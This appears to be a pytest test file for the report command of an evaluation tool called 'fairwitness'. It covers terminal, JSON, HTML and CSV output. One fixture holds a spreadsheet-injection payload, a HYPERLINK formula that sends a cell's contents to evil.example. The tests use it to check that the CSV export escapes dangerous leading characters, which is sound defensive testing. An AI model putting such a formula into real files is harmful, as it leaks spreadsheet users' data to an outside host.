"""`fairwitness report`: the terminal's table, the page, and CSV that no spreadsheet runs."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from fairwitness.batch import report_data
from fairwitness.batch.csv_export import cell, write_csv
from fairwitness.batch.report_data import gather
from fairwitness.batch.sources import journal_of
from fairwitness.cli.main import main
from fairwitness.evaluator.protocol import load
from tests.batch.judging import lines_of, run_over, some_rows, write_lines
from tests.batch.test_command import ask, folder

__all__ = ["folder"]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


@pytest.fixture
def results(tmp_path: Path) -> Path:
    rows: list[dict[str, Any]] = [
        {**row, "lang": "de" if n % 3 else "en"} for n, row in enumerate(some_rows(60))
    ]
    rows[5] |= {"response": FORMULA, "lang": "@SUM(1)", "score": -5, "note": "-5"}
    rows[6]["response"] = ""
    output = tmp_path / "results.jsonl"
    run_over(write_lines(tmp_path / "rows.jsonl", rows), output, on_error="skip")
    return output


def told(capfd: pytest.CaptureFixture[str], *arguments: str) -> tuple[object, str, str]:
    with pytest.raises(SystemExit) as ended:
        main(["report", *arguments])
    said = capfd.readouterr()
    return ended.value.code, said.out, said.err


def test_the_terminal_shows_numbers_slices_and_the_worst(
    results: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = told(capfd, str(results), "--by", "lang", "--worst", "2")
    assert code == 0
    assert out.startswith("60 rows, 31 pass, 0 fail, 28 need review, 1 could not be judged, mean")
    assert " calculation" in out
    assert out.count("of 100\n") == 2
    assert "The result “5” is wrong: the calculation gives 4. “2 + 2 = 5”" in out
    code, out, _ = told(capfd, str(results), "--json", "--by", "lang")
    found = json.loads(out)
    judged = [line["evaluation"] for line in lines_of(results) if "evaluation" in line]
    assert sum(found["distribution"]) == len(judged) == 59
    assert found["meanScore"] == pytest.approx(
        sum(one["overallScore"] for one in judged) / 59, abs=0.01
    )
    assert {one["value"]: one["rows"] for one in found["slices"]} == {
        "en": 20,
        "de": 39,
        "@SUM(1)": 1,
    }


@pytest.mark.parametrize(
    "bad",
    [
        ("absent.jsonl",),
        ("{}", "--by", "town"),
        ("{}", "-o", "report.pdf"),
        ("{}", "-o", "{}.html", "--by", "town"),
    ],
)
def test_bad_input_is_said_and_nothing_is_written(
    results: Path, capfd: pytest.CaptureFixture[str], bad: tuple[str, ...]
) -> None:
    before = set(results.parent.iterdir())
    code, out, errors = told(capfd, *(word.format(results) for word in bad))
    assert (code, out) == (2, "")
    assert errors.startswith("fairwitness: ")
    assert set(results.parent.iterdir()) == before


def test_cells_that_a_spreadsheet_would_run_are_escaped(results: Path) -> None:
    path = results.with_suffix(".csv")
    write_csv(results, path)
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 60
    assert rows[5]["response"] == f"'{FORMULA}"
    assert (rows[5]["lang"], rows[5]["note"], rows[5]["score"]) == ("'@SUM(1)", "'-5", "-5")
    assert (rows[6]["overallVerdict"], rows[6]["overallScore"]) == ("", "")
    assert rows[6]["error"].endswith("response: must not be empty")
    assert rows[1]["calculation"] == "fail"
    assert len(rows[1]["protocolDigest"]) == 64
    assert json.loads(rows[1]["model"]) == {"name": "a", "n": 1}
    for start in ("=", "+", "-", "@", "\t=", "\r", " =1", "＝"):
        assert cell(f"{start}1") == f"'{start}1"
    assert [cell(value) for value in (-1, 1.5, "fine", "")] == [-1, 1.5, "fine", ""]


def test_only_the_lowest_scores_are_kept_with_their_texts(
    results: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report_data, "MAX_DETAILS", 5)
    data = gather(results)
    scores = {index: score for index, score in enumerate(data.scores) if score is not None}
    lowest = sorted(scores, key=lambda index: (scores[index], index))[:5]
    assert sorted(data.details) == sorted(lowest)
    assert data.details[lowest[0]]["texts"] == {"prompt": "Question 1?", "response": "2 + 2 = 5."}
    assert list(data.errors) == [6]
    monkeypatch.setattr(report_data, "MAX_DETAIL_BYTES", 900)
    fewer = gather(results).details
    assert 0 < len(fewer) < 5
    assert set(fewer) <= set(lowest)
    # Without the run's own notes the columns are recognised.
    journal_of(results).unlink()
    assert gather(results).details == fewer


def test_many_numbers_are_cut_into_quarters(tmp_path: Path) -> None:
    rows = [{**row, "length": n * 10, "free": f"text {n}"} for n, row in enumerate(some_rows(100))]
    output = tmp_path / "results.jsonl"
    run_over(write_lines(tmp_path / "rows.jsonl", rows), output)
    slices = {column.name: column for column in gather(output).slices}
    assert set(slices) == {"model.n", "length"}
    assert slices["length"].values == ["under 250", "250 to 500", "500 to 750", "from 750"]
    assert [slices["length"].codes.count(code) for code in range(4)] == [25] * 4


def test_a_batch_writes_its_report(folder: Path, capfd: pytest.CaptureFixture[str]) -> None:
    run = ("rows.jsonl", "-o", "out.parquet", "--report", "report.html")
    assert ask(capfd, *run)[0] == 0
    first = (folder / "report.html").read_text()
    assert "<title>Fair Witness report: out.parquet</title>" in first
    digest = load(folder / "quick.toml").digest
    assert f'"protocolDigest":"{digest}"' in first
    assert ask(capfd, *run)[0] == 0
    assert (folder / "report.html").read_text() == first
    assert ask(capfd, "rows.jsonl", "-o", "out.parquet", "--report", "table.csv")[0] == 0
    for bad in ("report.pdf", "new.jsonl"):
        code, _, errors = ask(capfd, "rows.jsonl", "-o", "new.jsonl", "--report", bad)
        assert code == 2
        assert f"fairwitness: {bad}: " in errors
        assert not (folder / "new.jsonl").exists()
    assert (folder / "table.csv").read_text().startswith("prompt,response,model,id,overallVerdict")


def test_fewer_than_no_rows_cannot_be_shown(
    results: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    code, _, errors = told(capfd, str(results), "--worst", "-3")
    assert (code, "--worst: must be 0 or more" in errors) == (2, True)
    with pytest.raises(SystemExit) as ended:
        main(["compare", str(results), str(results), "--examples", "-1"])
    assert ended.value.code == 2
    assert "--examples: must be 0 or more" in capfd.readouterr().err
